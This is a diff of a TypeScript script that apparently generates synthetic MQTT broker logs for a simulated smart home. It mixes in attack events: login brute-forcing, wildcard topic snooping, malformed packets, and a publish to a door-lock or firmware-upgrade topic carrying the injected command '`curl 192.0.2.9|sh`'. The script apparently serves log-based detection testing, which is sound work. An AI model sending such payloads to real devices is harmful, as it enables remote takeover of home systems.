@@ -7,7 +7,8 @@ import { join } from "node:path";
 import { answering, freePort, Log, program, ran, sent } from "./recorder.ts";
 
 /** Lines of any client. */
-const USUAL = /: (?:New connection from|No will message|Sending CONNACK to \S+ \(0, 0\)|Received DISCONNECT|Client \S+ disconnected\.)/;
+const USUAL =
+  /: (?:New connection from|No will message|Sending CONNACK to \S+ \(0, 0\)|Received DISCONNECT|Client \S+ disconnected\.)/;
 const ROOMS = ["kitchen", "cellar", "attic", "garage", "bath", "hall"];
 const SENSORS = ["temperature", "humidity", "co2", "door"];
 
@@ -41,29 +42,84 @@ log_timestamp_format %Y-%m-%dT%H:%M:%S\npersistence true\npersistence_location $
   const measure = () => {
     const room = one(ROOMS);
     const sensor = meters && random() < 0.2 ? "power" : one(SENSORS);
-    const id = `${room}-${sensor}-${10 + (room.length * sensor.length) % 80}`;
+    const id = `${room}-${sensor}-${10 + ((room.length * sensor.length) % 80)}`;
     const quality = sensor === "door" ? ["-q", "1", "-r"] : ["-q", "0"];
     return publish("sensor", "cold", id, `house/${room}/${sensor}`, "-m", `${10 + draw(300) / 10}`, ...quality);
   };
   const record = () =>
-    ran(subscriber, [...at, "-u", "recorder", "-P", "long", "-i", "recorder", "-q", "1", "-t", `house/${one(ROOMS)}/#`, "-C", "1", "-W", "1"]);
+    ran(subscriber, [
+      ...at,
+      "-u",
+      "recorder",
+      "-P",
+      "long",
+      "-i",
+      "recorder",
+      "-q",
+      "1",
+      "-t",
+      `house/${one(ROOMS)}/#`,
+      "-C",
+      "1",
+      "-W",
+      "1",
+    ]);
   const harms = [
     async () => {
       for (let left = 3 + draw(6); left > 0; --left) {
         await publish(one(["admin", "root", "sensor", "mqtt"]), String(draw(1e6)), `x${draw(1e4)}`, "test", "-m", "1");
       }
     },
-    () => ran(subscriber, [...at, "-u", "sensor", "-P", "cold", "-i", `mqtt-explorer-${draw(1e8).toString(16)}`, "-t", one(["#", "$SYS/#"]), "-W", "1"]),
-    () => sent(port, one(["GET / HTTP/1.1\r\nHost: x\r\n\r\n", "\x10\x0c\x00\x04MQTX\x04\x02\x00\x3c\x00\x00", "\xff\xff\xff\xff\xff\xff"])),
-    () => publish("switch", "warm", `shell-${draw(1e5)}`, one(["house/door/lock/set", "cmnd/all/Upgrade"]), "-m", "`curl 192.0.2.9|sh`"),
+    () =>
+      ran(subscriber, [
+        ...at,
+        "-u",
+        "sensor",
+        "-P",
+        "cold",
+        "-i",
+        `mqtt-explorer-${draw(1e8).toString(16)}`,
+        "-t",
+        one(["#", "$SYS/#"]),
+        "-W",
+        "1",
+      ]),
+    () =>
+      sent(
+        port,
+        one([
+          "GET / HTTP/1.1\r\nHost: x\r\n\r\n",
+          "\x10\x0c\x00\x04MQTX\x04\x02\x00\x3c\x00\x00",
+          "\xff\xff\xff\xff\xff\xff",
+        ]),
+      ),
+    () =>
+      publish(
+        "switch",
+        "warm",
+        `shell-${draw(1e5)}`,
+        one(["house/door/lock/set", "cmnd/all/Upgrade"]),
+        "-m",
+        "`curl 192.0.2.9|sh`",
+      ),
   ];
   let [restarted, next] = [false, lines * 0.22];
   for (let count = 0; count < lines; count = log.lines) {
     for (let left = 3; left > 0; --left) await measure();
-    if (random() < 0.1) await publish("switch", "warm", "wall-switch", `house/${one(ROOMS)}/light/set`, "-m", one(["on", "off"]), "-q", "2");
+    if (random() < 0.1)
+      await publish(
+        "switch",
+        "warm",
+        "wall-switch",
+        `house/${one(ROOMS)}/light/set`,
+        "-m",
+        one(["on", "off"]),
+        "-q",
+        "2",
+      );
     if (random() < 0.04) await record();
     if (count > next) {
-      next = count + lines * 0.03 * (0.5 + random());
+      next = count + lines * 0.07 * (0.5 + random());
       await log.harm(one(harms));
     }
     if (!restarted && count > lines * 0.5) {
